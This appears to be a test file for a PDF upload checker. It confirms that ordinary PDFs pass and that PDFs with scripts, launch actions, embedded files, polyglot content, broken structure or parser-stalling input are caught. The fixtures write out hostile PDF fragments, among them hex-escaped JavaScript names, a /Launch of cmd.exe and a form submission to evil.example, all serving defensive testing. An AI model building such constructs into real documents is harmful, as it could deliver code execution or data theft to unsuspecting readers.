import { createCipheriv } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { pdfProblem } from './check-pdf.ts';
import { aPackedPdf, aPdf, stream, updatedPdf } from './pdf.fixture.ts';

const SCRIPT = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
const behind = (pdf: Buffer, text: string): Buffer => Buffer.concat([pdf, Buffer.from(text, 'latin1')]);
const replaced = (pdf: Buffer, from: string | RegExp, to: string): Buffer =>
  Buffer.from(pdf.toString('latin1').replace(from, to), 'latin1');
/** An archive of one empty file, with `comment` bytes behind it. */
const zip = (comment = 0): string =>
  `PK\x03\x04\x14${'\0'.repeat(25)}PK\x01\x02\x14${'\0'.repeat(41)}PK\x05\x06${'\0'.repeat(16)}${String.fromCharCode(comment)}\0`;

describe('a PDF', () => {
  it.each<[string, Buffer]>([
    ['with a table', aPdf()],
    ['with packed objects', aPackedPdf()],
    ['whose packed objects lie in the open', aPackedPdf({ pack: (data) => data })],
    ['that was changed', updatedPdf(aPdf(), '<</Type/Annot/Subtype/Text/Contents(a note)>>')],
    ['that was changed twice', updatedPdf(updatedPdf(aPdf(), '<<>>'), '<<>>')],
    ['that was changed, with packed objects', updatedPdf(aPackedPdf(), '<</Type/Annot>>')],
    [
      'with an address and a link in it',
      aPdf({ more: ['<</S/URI/URI(https://bank.example/)>>', '<</S/GoTo/D[3 0 R/Fit]>>'] }),
    ],
    ['that opens at a page', aPdf({ root: '/OpenAction[3 0 R/Fit]' })],
    ['with fields to fill in', aPdf({ root: '/AcroForm<</Fields[]/NeedAppearances true>>' })],
    [
      'whose title speaks of scripts',
      aPdf({ more: ['<</Title(Payslip of a /JS \\( and /JavaScript\\) (senior) developer)>>'] }),
    ],
    ['whose pages do, in their own text', aPdf({ more: [stream('', 'BT (learn /JavaScript ) Tj ET')] })],
    [
      'that may not be changed, as banks send them',
      aPdf({ more: ['<</Filter/Standard/V 2/R 3/O(\\(x)/U(y\\))/P -44>>'], trailer: '/Encrypt 4 0 R' }),
    ],
    ['with a picture', aPdf({ more: [stream('/Subtype/Image/Filter/DCTDecode', Buffer.alloc(50_000, 0xe7))] })],
    ['with empty lines behind it', behind(aPdf(), '\r\n\r\n\0')],
  ])('%s is taken', async (_what, pdf) => {
    expect(await pdfProblem(pdf)).toBeNull();
  });

  it.each<[string, Buffer, string]>([
    ['a script', aPdf({ more: [SCRIPT] }), 'script'],
    ['one that runs when it opens', aPdf({ root: `/OpenAction${SCRIPT}` }), 'script'],
    ['one under another spelling', aPdf({ more: ['<</S/J#61v#61Script/J#53(1)>>'] }), 'script'],
    ['the word for a script alone', aPdf({ more: ['<</J#53 5 0 R>>'] }), 'script'],
    ['a packed one', aPackedPdf({ more: [SCRIPT] }), 'script'],
    ['a packed one under another spelling', aPackedPdf({ more: ['<</S/#4aavaScript>>'] }), 'script'],
    ['one packed in the open', aPackedPdf({ more: [SCRIPT], pack: (data) => data }), 'script'],
    ['one that a change brought', updatedPdf(aPackedPdf(), SCRIPT), 'script'],
    ['one behind a text that seems not to end', aPdf({ more: [`(\\\\)${SCRIPT}`] }), 'script'],
    ['a program to start', aPdf({ more: ['<</S/Launch/F(cmd.exe)>>'] }), 'script'],
    ['a file in it', aPdf({ more: [stream('/Type/EmbeddedFile', 'MZ')] }), 'script'],
    ['a list of files', aPackedPdf({ root: '/Names<</EmbeddedFiles 4 0 R>>' }), 'script'],
    ['a form of XFA', aPdf({ root: '/AcroForm<</XFA 4 0 R>>' }), 'script'],
    ['data that it sends', aPdf({ more: ['<</S/SubmitForm/F(https://evil.example)>>'] }), 'script'],
    ['an object in the data of a stream', aPdf({ more: [stream('', `5 0 obj ${SCRIPT} endobj`)] }), 'broken'],
    ['an object in a comment', aPdf({ more: [`% 5 0 obj ${SCRIPT} endobj\n<<>>`] }), 'broken'],
    ['an object in a text', aPdf({ more: [`(5 0 obj ${SCRIPT} endobj)`] }), 'broken'],
    ['objects packed so that few can look', replaced(aPackedPdf(), '/FlateDecode', '/LZWDecode  '), 'broken'],
    ['objects that are no packed data', replaced(aPackedPdf(), '\nstream\nx', '\nstream\ny'), 'broken'],
    ['packed objects of more than memory holds', aPackedPdf({ more: [' '.repeat(80 << 20)] }), 'broken'],
    ['packed objects that nobody can read', replaced(aPackedPdf(), '/Type/XRef', '/Encrypt 9 0 R/Type/XRef'), 'locked'],
    ['a page before it', Buffer.concat([Buffer.from('<html>'), aPdf()]), 'broken'],
    ['a byte before it', Buffer.concat([Buffer.from('\n'), aPdf()]), 'broken'],
    ['a page in it', aPdf({ more: [stream('', '<html><script>alert(1)</script>')] }), 'mixed'],
    ['a page behind it', behind(aPdf(), '<script>alert(1)</script>'), 'mixed'],
    ['an archive behind it', behind(aPdf(), zip()), 'mixed'],
    ['an archive in it, of which its end is the remark', aPdf({ more: [stream('', zip(200))] }), 'mixed'],
    ['something behind it', behind(aPdf(), 'more'), 'broken'],
    [
      'random bytes in it alone',
      Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(5000, 7), Buffer.from('\n%%EOF\n')]),
      'broken',
    ],
    ['a table at another place', replaced(aPdf(), /startxref\n\d+/, 'startxref\n20'), 'broken'],
    ['a table without a root', replaced(aPdf(), '/Root', '/Boot'), 'broken'],
    ['half of it', aPdf().subarray(0, 200), 'broken'],
  ])('with %s is not', async (_what, pdf, problem) => {
    expect(await pdfProblem(pdf)).toBe(problem);
  });

  it('holds nobody up, whatever it is made of', async () => {
    const most = (text: string) => aPdf({ more: [text.repeat(Math.floor((9 << 20) / text.length))] });
    for (const pdf of [
      most('/a'),
      most('('),
      most('()'),
      most('%\n'),
      most('1 '),
      most('x '),
      most(' stream\nendstream'),
    ]) {
      let longest = 0;
      let last = performance.now();
      const watch = setInterval(() => {
        longest = Math.max(longest, performance.now() - last);
        last = performance.now();
      }, 1);
      await pdfProblem(pdf);
      clearInterval(watch);
      expect(longest).toBeLessThan(500);
    }
  });

  it('of random bytes in its pages is taken', async () => {
    const noise = createCipheriv('aes-128-ctr', Buffer.alloc(16), Buffer.alloc(16)).update(Buffer.alloc(3 << 20));
    expect(await pdfProblem(aPdf({ more: [stream('/Filter/FlateDecode', deflateSync(noise))] }))).toBeNull();
  });
});
